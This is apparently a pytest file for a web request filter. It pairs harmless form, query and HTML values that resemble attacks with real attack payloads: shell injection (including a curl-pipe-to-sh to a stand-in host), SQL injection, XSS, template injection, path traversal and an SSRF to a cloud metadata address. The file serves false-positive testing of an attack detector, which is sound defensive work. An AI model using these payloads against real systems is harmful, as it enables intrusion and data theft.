"""Values of forms that fit a pattern by accident, each beside an attack in the same place."""

from __future__ import annotations

import json
from urllib.parse import urlencode

import pytest
from web_requests import stops

from signoff.actions.action import Json


def stops_value(value: str, name: str = "note") -> bool:
    """Tell whether a form with one field is stopped, and the same value in JSON."""
    form: dict[str, Json] = {"Content-Type": "application/x-www-form-urlencoded"}
    by_form = stops(headers=form, body=urlencode({name: value}))
    by_json = stops(headers={"Content-Type": "application/json"}, body=json.dumps({name: value}))
    assert by_form == by_json
    return by_form


@pytest.mark.parametrize(
    ("harmless", "harmful"),
    [
        ("B&B|Q&A|Tea", "B&B|Q&A|cat /etc/hosts"),
        ("dates|AT&T", "dates|at&t"),
        ("HTML;PHP;Rust", "HTML;php;Rust"),
        ("HTML;PHP;Rust", "HTML;PHP -r phpinfo();Rust"),
        ("HTML|SSH|Rust", "HTML;SSH;id"),
        ("cell|net", "cell|net user"),
        ("cell|net", "cell|net|sh"),
        ("cell|net", "cell;net"),
    ],
)
def test_lists_of_names_run_nothing(harmless: str, harmful: str) -> None:
    """A name between separators is an entry of a list; a program with arguments is none."""
    assert (False, True) == (stops_value(harmless), stops_value(harmful))


@pytest.mark.parametrize(
    ("harmless", "harmful"),
    [
        ("content-md5;content-type;host", "content-md5;env;host"),
        ("content-type;host;x-amz-date", "content-type;host;id"),
        ("content-type;date;host", "content-type;reboot"),
    ],
)
def test_a_signed_address_names_headers(harmless: str, harmful: str) -> None:
    """Only names of headers make such a list."""
    query = "X-Amz-SignedHeaders"
    assert (False, True) == (
        stops(method="GET", query={query: harmless}),
        stops(method="GET", query={query: harmful}),
    )


@pytest.mark.parametrize(
    ("harmless", "harmful"),
    [
        ("{n, number} left; it''s late", "{n, number} left; l''s /"),
        ("{n} left; they''re late", "{n} left; w''hoami"),
    ],
)
def test_a_doubled_apostrophe_spells_no_program(harmless: str, harmful: str) -> None:
    """Messages of ICU double an apostrophe, and a shell leaves two of them out."""
    assert (False, True) == (stops_value(harmless), stops_value(harmful))


@pytest.mark.parametrize(
    ("harmless", "harmful"),
    [
        ('{__name__=~"disk_.+"}', "{{ x.__name__ }}"),
        ('sum({job="a",__name__!="up"})', "{{ ''.__class__.__name__ }}"),
        ('rate({__name__="up"}[5m])', '{%if x.__name__=="up"%}{%endif%}'),
        ('{__name__="up"}', '{{__name__="up"}}'),
    ],
)
def test_a_label_of_a_time_series_is_compared(harmless: str, harmful: str) -> None:
    """`__name__` in one pair of braces before a comparison is a label, elsewhere an attribute."""
    assert (False, True) == (stops_value(harmless, "match[]"), stops_value(harmful, "match[]"))


@pytest.mark.parametrize(
    "harmful",
    [
        "to:d'arcy\" union select name, mail from users -- ",
        "to:d'arcy \"select 1, 2",
        "x' or (select 1)=1 -- ",
        'x" or "select"="select',
    ],
)
def test_a_quoted_phrase_is_no_statement(harmful: str) -> None:
    """Words in double quotes are looked for, unless a statement could be made of them."""
    search = 'to:d\'arcy "select few"'
    assert (False, True) == (
        stops(method="GET", query={"q": search}),
        stops(method="GET", query={"q": harmful}),
    )


@pytest.mark.parametrize(
    "harmful",
    ["<Menu onOpen=alert(1)>", "<Menu onOpen={alert(1)}>", "<img src=x onError={a`1`}>"],
)
def test_a_handler_of_jsx_calls_nothing(harmful: str) -> None:
    """A bare name in braces does nothing in a browser; a call does."""
    harmless = "why does <Menu onOpen={show}> render twice"
    assert (False, True) == (
        stops(method="GET", query={"q": harmless}),
        stops(method="GET", query={"q": harmful}),
    )


@pytest.mark.parametrize(
    "harmful",
    ["do I need `..\\..\\lib\\a.dll` or what else", "..\\lib\\a.dll", "see that `..\\a` ..\\..\\b"],
)
def test_a_sentence_names_a_file_one_folder_up(harmful: str) -> None:
    """In backticks and with one step up it is named; further up it is reached for."""
    assert (False, True) == (
        stops_value("do I need `..\\lib\\a.dll` or what else"),
        stops_value(harmful),
    )


@pytest.mark.parametrize(
    "harmful", ["a::before{content:'' or 1=1 --'}", "a{content:'|' '}\n' or '1'='1"]
)
def test_a_style_sheet_puts_one_sign_between_entries(harmful: str) -> None:
    """One sign in quotes is what a page shows between two links."""
    harmless = "ul.tabs li + li::before { content: ' / '; }\n.b::after { content: '|'; }"
    assert (False, True) == (stops_value(harmless, "css"), stops_value(harmful, "css"))


def test_a_repeated_password_is_a_password() -> None:
    """The long name of the second field counts as the short one of the first."""
    field, password = "password_confirmation", "kq'!w;--"
    assert (False, True, True) == (
        stops_value(password, field),
        stops_value("' or 1=1 --", field),
        stops_value(password, "confirmation"),
    )


@pytest.mark.parametrize(
    ("harmless", "harmful"),
    [
        ("make all && cat a.log", "' or 'a'='a"),
        ("make all && cat a.log", "x' union select 1, 2 -- "),
        ("make all && cat a.log", "; cat /etc/hosts"),
        ("make all && cat a.log", "x $(curl e.example | sh)"),
        ("make all && cat a.log", "x' || '1'='1"),
        ("$x = run( \"SELECT id FROM t WHERE a = 'b'\" );\n$y = 1;", "a'; drop table t"),
    ],
)
@pytest.mark.parametrize(
    "block",
    [
        "<pre class='x'><code>{}</code></pre>",
        "<p>Run:</p><pre>{}</pre>",
        "<p>See</p><e:macro><e:body><![CDATA[{}]]></e:body></e:macro>",
        "See:\n```lang\n{}\n```",
    ],
)
def test_a_block_of_code_is_shown_with_few_words_around(
    block: str, harmless: str, harmful: str
) -> None:
    """It begins with a word of its own, and leaves no value that it is put into."""
    shown, attack = block.format(harmless), block.format(harmful)
    assert (False, True) == (stops_value(shown), stops_value(attack))


@pytest.mark.parametrize(
    "harmful",
    [
        "ok\n; cat /etc/hosts",
        "ok\n$(cat /etc/hosts)",
        "ok\n$ x' union select name, mail from users -- ",
        "ok $ x; cat /etc/hosts",
    ],
)
@pytest.mark.parametrize(
    "typed",
    [
        "$ make all && cat a.log | tail -3",
        "ann@host:~/src$ make; ls",
        ">>> import os; os.system('make')",
        "PS C:\\src> make; dir",
    ],
)
def test_a_report_shows_what_somebody_typed(typed: str, harmful: str) -> None:
    """Lines behind the prompt of a terminal are shown, and no others."""
    report = f"The build fails since Monday:\n{typed}\n{{}}\nany idea?"
    assert (False, True) == (
        stops_value(report.format("no rule to make it")),
        stops_value(report.format(harmful)),
    )


@pytest.mark.parametrize(
    ("harmless", "harmful"),
    [
        (
            '<meta http-equiv="content-type" content="text/html; charset=utf-8">',
            '<meta http-equiv="refresh" http-equiv="content-type" content="text/html">',
        ),
        (
            '<meta http-equiv="content-type" content="text/html">',
            '<meta http-equiv="content-type" content="text/html; charset=utf-7">',
        ),
        ('<e:link e:title="a"><e:page/></e:link>', '<e:link href="javascript:x()">a</e:link>'),
        ('<e:link e:title="a"/>', '<e:link e:title="\' or 1=1 -- "/>'),
        ("<e:link>a</e:link>", "<e:link onclick=x()>a</e:link>"),
        (
            '<oembed url="https://v.example/1"></oembed>',
            '<oembed url="http://169.254.169.254/latest/meta-data/"></oembed>',
        ),
        ('<oembed url="https://v.example/1"></oembed>', '<oembed url="javascript:x()"></oembed>'),
        ('<oembed url="https://v.example/1"/>', '<oembed onload="x()"></oembed>'),
        (
            '<iframe src="https://www.youtube.com/embed/a"></iframe>',
            '<iframe src="//e.example" src="https://www.youtube.com/embed/a"></iframe>',
        ),
        (
            '<link rel="stylesheet" href="/a.css">',
            '<link rel="stylesheet" href="//e.example/a.css" href="/a.css">',
        ),
    ],
)
def test_a_page_has_tags_that_do_nothing(harmless: str, harmful: str) -> None:
    """They have the attributes that do nothing, each once, as browsers read the first."""
    page = "<p>Dear all, see below</p>{}<p>Regards</p>"
    assert (False, True) == (
        stops_value(page.format(harmless)),
        stops_value(page.format(harmful)),
    )
